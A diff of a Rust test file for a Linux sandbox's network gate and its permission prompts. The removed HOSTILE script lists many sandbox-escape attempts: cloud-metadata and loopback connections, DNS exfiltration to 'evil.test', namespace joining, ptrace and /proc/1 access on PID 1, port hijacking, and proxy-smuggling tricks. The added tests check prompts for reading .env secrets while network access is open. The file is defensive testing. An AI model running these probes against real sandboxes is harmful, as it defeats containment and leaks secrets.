@@ -1,14 +1,12 @@
 //! The door: what commands in the sandbox reach of the network by the names of hosts, and how a user is asked.
 #![cfg(target_os = "linux")]
 
+mod escapes;
+
 use std::{
     io::{Read, Write},
     net::{SocketAddr, TcpListener},
-    os::{
-        linux::net::SocketAddrExt,
-        unix::net::{self, UnixListener},
-    },
-    process::{Command, Stdio},
+    process::Stdio,
     sync::{Arc, Mutex},
     thread,
 };
@@ -130,99 +128,6 @@ fn hosts_and_secrets_do_not_come_together() {
     assert!(out.contains("canary"), "{out}");
 }
 
-/// Each way that leads round the door prints its name if it leads anywhere.
-const HOSTILE: &str = r#"
-import ctypes, os, socket, struct, subprocess, sys
-port, outside = int(sys.argv[1]), sys.argv[2]
-def way(name, go):
-    try:
-        got = go()
-    except Exception:
-        return
-    if got:
-        print("ESCAPED", name, got)
-def tcp(family, address):
-    it = socket.socket(family, socket.SOCK_STREAM); it.settimeout(3); it.connect(address)
-    it.sendall(b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"); return b"REACHED" in it.recv(999)
-def udp(family, address, data=b"x"):
-    it = socket.socket(family, socket.SOCK_DGRAM); it.settimeout(1); it.sendto(data, address); return it.recv(99)
-def door(*said):
-    it = socket.create_connection(("127.0.0.1", 10053), 3); got = b""
-    for one in said:
-        it.sendall(one); got += it.recv(999)
-    return b"REACHED" in got
-def connect(host, then=b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n"):
-    return door(f"CONNECT {host} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), then)
-for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", outside, "198.18.1.200", "169.254.169.254", "10.0.0.1"):
-    way("connect " + address, lambda: tcp(socket.AF_INET, (address, port)))
-for address in ("::1", "::ffff:127.0.0.1", "::"):
-    way("connect " + address, lambda: tcp(socket.AF_INET6, (address, port)))
-for address in ("8.8.8.8", "1.1.1.1", outside):
-    way("dns " + address, lambda: udp(socket.AF_INET, (address, 53), b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\1\0\1"))
-way("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
-way("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
-way("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
-way("bluetooth", lambda: socket.socket(31, socket.SOCK_STREAM, 3))
-way("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\0castor-door-test") is None)
-def pair():
-    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); one.connect("/run/docker.sock"); return True
-way("pair", pair)
-libc = ctypes.CDLL(None, use_errno=True)
-def namespace(path):
-    return libc.setns(os.open(path, os.O_RDONLY), 0x40000000) == 0
-for it in ("/proc/1/ns/net", f"/proc/{os.getppid()}/ns/net"):
-    way("setns " + it, lambda: namespace(it) and tcp(socket.AF_INET, ("127.0.0.1", port)))
-way("unshare", lambda: libc.unshare(0x40000000) == 0)
-way("ptrace", lambda: libc.ptrace(16, 1, 0, 0) == 0)
-way("fds of number 1", lambda: [os.readlink("/proc/1/fd/" + it) for it in os.listdir("/proc/1/fd")])
-way("memory of number 1", lambda: open("/proc/1/mem", "rb").read(1))
-way("root of number 1", lambda: os.listdir("/proc/1/root"))
-def stolen(address):
-    it = socket.socket(); it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); it.bind(address); it.listen(); return True
-for address in (("127.0.0.1", 10053), ("0.0.0.0", 10053), ("0.0.0.0", 443), ("198.18.1.0", 80)):
-    way(f"bind {address}", lambda: stolen(address))
-def resolver():
-    it = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); it.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
-    it.bind(("127.0.0.1", 53)); return True
-way("bind the resolver", resolver)
-for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"2130706433:{port}", f"0x7f.1:{port}", f"[::1]:{port}",
-             f"[::ffff:127.0.0.1]:{port}", f"0:{port}", f"{outside}:{port}", "b.test:80", "closed.test:80",
-             "a.test.b.test:80", "a.test@b.test:80", "b.test:80#a.test:80", "a.test%00b.test:80", "169.254.169.254:80"):
-    way("tunnel " + host, lambda: connect(host))
-for host in ("b.test", "a.test, b.test", "a.test\r\nHost: b.test"):
-    way("fronted " + host, lambda: connect("a.test:80", f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()))
-    way("front " + host, lambda: door(f"GET http://a.test/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()))
-way("two lengths", lambda: door(b"POST http://a.test/ HTTP/1.1\r\nHost: a.test\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"))
-way("version 2", lambda: door(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
-def socks(kind, host):
-    return door(b"\5\1\0", b"\5\1\0" + bytes([kind]) + host + struct.pack(">H", port), b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
-way("socks v4", lambda: socks(1, socket.inet_aton("127.0.0.1")))
-way("socks v6", lambda: socks(4, socket.inet_pton(socket.AF_INET6, "::1")))
-way("socks name", lambda: socks(3, bytes([10]) + b"2130706433"))
-print("over", door(b"GET http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n"))
-"#;
-
-#[test]
-fn no_way_leads_round_the_door() {
-    let server = WebServer::start();
-    let mut sandbox = Sandbox::new();
-    let outside = Command::new("hostname").arg("-I").output().ok();
-    let outside = outside.and_then(|it| Some(String::from_utf8(it.stdout).ok()?.split_whitespace().next()?.to_owned()));
-    let outside = outside.unwrap_or_else(|| "127.0.0.3".to_owned());
-    sandbox.write("ws/hostile.py", HOSTILE);
-    sandbox.write("home/.castor/settings.json", &open(&["a.test:80", "closed.test:80", "127.0.0.1:*"]).to_string());
-    sandbox.env.push(server.known_as(&["a.test:80", "b.test:80", "closed.test:80"]));
-    let name = net::SocketAddr::from_abstract_name("castor-door-test").unwrap();
-    let _listens = UnixListener::bind_addr(&name).unwrap();
-    let port = server.at.port().to_string();
-    sandbox.args = ["exec", "--", "python3", "hostile.py", &port, &outside].map(Into::into).to_vec();
-    let out = sandbox.command().stdin(Stdio::null()).output().unwrap();
-    assert_eq!(String::from_utf8_lossy(&out.stdout), "over True\n", "{}", String::from_utf8_lossy(&out.stderr));
-    let heads = server.heads();
-    assert!(heads.matches("GET").count() == 1 && heads.matches("Host: a.test").count() == 1, "{heads}");
-}
-
 /// Sends a prompt, and answers its questions. What was asked, and all that was told.
 fn prompt(bed: &mut Bed, option: &str) -> (Vec<Value>, String) {
     let id = json!(format!("p{}", bed.client.transcript().len()));
@@ -327,4 +232,82 @@ fn a_port_of_this_machine_is_asked_about_with_the_program_that_listens() {
     assert!(told.contains("REACHED"), "{told}");
     let (asked, told) = prompt(&mut bed, "reject_once");
     assert!(asked.is_empty() && told.contains("REACHED"), "{told}");
+}
+
+/// Says how much of a secret it sees, and whether it reaches a host.
+const READS: &str = "python3 -c 'print(\"saw\", len(open(\".e\" + \"nv\").read()))'";
+
+/// A session in which `a.test` is open, and a secret lies in the workspace.
+fn open_session(server: &WebServer, commands: &[&str]) -> Option<Bed> {
+    let bed = Bed::prepared(commands, |it| {
+        work_in_auto(it);
+        let settings = json!({"security": {"enablePermanentToolApproval": true, "network": {"allow": ["a.test:80"]}}});
+        it.write("home/.castor/settings.json", &settings.to_string());
+        it.write("ws/.env", "API_TOKEN=canary-of-the-workspace");
+        it.write("ws/.env.local", "");
+        it.env.push(server.known_as(&["a.test:80", "b.test:80"]));
+    });
+    has_mounts(&bed.sandbox).then_some(bed)
+}
+
+/// One question opens a file together with the hosts, and says both; the same is asked once.
+#[test]
+fn an_attempt_to_read_a_secret_beside_hosts_is_asked_about_with_both() {
+    let server = WebServer::start();
+    let both = "python3 -c 'open(\".e\" + \"nv\"); open(\".e\" + \"nv.local\")'; curl -sS http://a.test/x";
+    let lines = [READS, READS, "cat stray.py | head -1; curl -sS http://a.test/x", both];
+    let Some(mut bed) = open_session(&server, &lines) else { return };
+    let (asked, told) = prompt(&mut bed, "reject_once");
+    assert_eq!(asked.len(), 1, "{told}");
+    let (text, options) = question(&asked[0]);
+    let root = bed.sandbox.workspace().canonicalize().unwrap().display().to_string();
+    let want = "The sandbox hid ~/.env, where secrets are kept, from a command that may reach a.test:80. Run the whole command \
+                again with both that file and a.test:80?";
+    assert!(text.replace(&root, "~").ends_with(want), "{text}");
+    let rest = "to read ~/.env with network access to a.test:80";
+    for way in
+        [format!("Allow `{READS}` {rest} for this session"), format!("Always allow commands {rest} in this folder")]
+    {
+        assert!(options.iter().any(|it| it.replace(&root, "~").starts_with(&way)), "{way}: {options:?}");
+    }
+    assert!(told.contains("saw 0") && !told.contains("canary"), "{told}");
+    let (asked, told) = prompt(&mut bed, "allow_once");
+    assert!(asked.is_empty() && told.contains("saw 0"), "{told}");
+    // Who reads none is not asked.
+    let (asked, told) = prompt(&mut bed, "allow_once");
+    assert!(asked.is_empty() && told.contains("REACHED"), "{told}");
+    // Two files are one question.
+    let (asked, _) = prompt(&mut bed, "reject_once");
+    let (text, _) = question(&asked[0]);
+    assert!(asked.len() == 1 && text.contains("/.env, ") && text.contains("/.env.local, where"), "{text}");
+}
+
+#[test]
+fn a_yes_to_a_secret_with_hosts_holds_for_those_hosts() {
+    let server = WebServer::start();
+    let reads_and_reaches = format!("{READS}; curl -sS http://a.test/x");
+    let other = format!("{READS}; curl -sS http://b.test/x");
+    let lines = [READS, &reads_and_reaches, READS, &reads_and_reaches, &other];
+    let Some(mut bed) = open_session(&server, &lines) else { return };
+    let (asked, told) = prompt(&mut bed, "allow_once");
+    assert!(asked.len() == 1 && told.contains("saw 33"), "{told}");
+    // Once is once, and the line is the line.
+    let (asked, told) = prompt(&mut bed, "allow_session");
+    assert!(asked.len() == 1 && told.contains("saw 33") && told.contains("REACHED"), "{told}");
+    let (asked, told) = prompt(&mut bed, "allow_always_save");
+    assert!(asked.len() == 1 && told.contains("saw 33"), "{told}");
+    let saved = std::fs::read_to_string(bed.sandbox.home().join(".castor/sandbox-saved.toml")).unwrap();
+    assert!(saved.contains("/.env\"]") && saved.contains("hosts = [\"a.test:80\"]"), "{saved}");
+    let (asked, told) = prompt(&mut bed, "reject_once");
+    assert!(asked.is_empty() && told.contains("saw 33") && told.contains("REACHED"), "{told}");
+    // With one more host it is another question: first the host, and the secret is hidden then.
+    let (asked, told) = prompt(&mut bed, "allow_once");
+    let texts: Vec<String> = asked.iter().map(|it| question(it).0).collect();
+    assert!(texts.len() == 2 && texts[0].contains("reach b.test:80."), "{texts:?}");
+    assert!(
+        texts[1].contains("/.env, where secrets are kept, from a command that may reach a.test:80, b.test:80."),
+        "{texts:?}"
+    );
+    let (first, rest) = told.split_once("reach b.test:80").unwrap();
+    assert!(first.contains("saw 33") && rest.contains("saw 0"), "{told}");
 }
